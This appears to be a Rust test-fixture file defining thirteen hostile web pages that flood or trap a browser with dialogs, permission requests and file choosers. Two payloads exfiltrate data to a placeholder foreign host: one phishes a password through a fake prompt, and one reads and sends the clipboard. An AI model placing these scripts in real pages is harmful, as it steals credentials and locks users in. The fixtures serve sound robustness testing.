//! Pages that make the browser prompt: with dialogs, or for permissions, passwords and files.

use super::hostility::Hostility;

pub(super) const DIALOGS: [Hostility; 13] = [
    Hostility::script(
        "alert-bounded",
        "for (let n = 1; n <= 20; n++) alert('Alert ' + n + ' of 20');",
    ),
    Hostility::script(
        "alert-endless",
        "const again = () => { alert('Once more'); setTimeout(again, 0); }; again();",
    ),
    Hostility::script("alert-without-pause", "while (true) alert('Always');"),
    Hostility::script(
        "confirm-until-yes",
        "while (!confirm('May the password be sent to everybody?')) ;
location.href = '@FOREIGN@/confirmed';",
    ),
    Hostility::script(
        "prompt-for-password",
        "for (let n = 0; n < 30; n++) {
  const said = prompt('Your session is over. Your password, please:');
  new Image().src = '@FOREIGN@/prompt?said=' + encodeURIComponent(said);
}",
    ),
    Hostility::script(
        "beforeunload-trap",
        "addEventListener('beforeunload', (event) => {
  event.preventDefault();
  event.returnValue = 'Stay';
});
setInterval(() => { location.search = '?again=' + Math.random(); }, 400);",
    ),
    Hostility::script(
        "alert-while-acting",
        "for (const kind of ['focusin', 'mousedown', 'mouseup', 'keydown', 'mousemove']) {
  addEventListener(kind, () => alert('In the middle: ' + kind), true);
}",
    ),
    Hostility::script(
        "alerts-without-end-while-acting",
        "for (const kind of ['keydown', 'input', 'mousedown']) {
  addEventListener(kind, () => { while (true) alert('Never ending: ' + kind); }, true);
}",
    ),
    Hostility::script("print-endless", "setInterval(() => print(), 200);"),
    Hostility::script(
        "permissions",
        "const ask = () => {
  Notification.requestPermission();
  navigator.geolocation.getCurrentPosition(() => {}, () => {});
  navigator.mediaDevices?.getUserMedia({ audio: true, video: true }).catch(() => {});
  navigator.clipboard?.readText().then((text) => fetch('@FOREIGN@/clipboard?' + text)).catch(() => {});
};
ask();
addEventListener('click', ask, true);",
    ),
    Hostility::html(
        "asks-for-basic-authentication",
        "<img src=\"@HERE@/authentication\" alt=\"\"><iframe src=\"@HERE@/authentication\"></iframe>",
    ),
    Hostility::both(
        "dialog-element-again-and-again",
        "<dialog><p>Subscribe first.</p><button>Close</button></dialog>",
        "const dialog = document.querySelector('dialog');
dialog.querySelector('button').onclick = () => dialog.close();
dialog.onclose = () => dialog.showModal();
dialog.oncancel = (event) => event.preventDefault();
dialog.showModal();",
    ),
    Hostility::both(
        "file-chooser-on-click",
        "<input type=\"file\" id=\"file\" hidden>",
        "addEventListener('mousedown', () => document.getElementById('file').click(), true);",
    ),
];
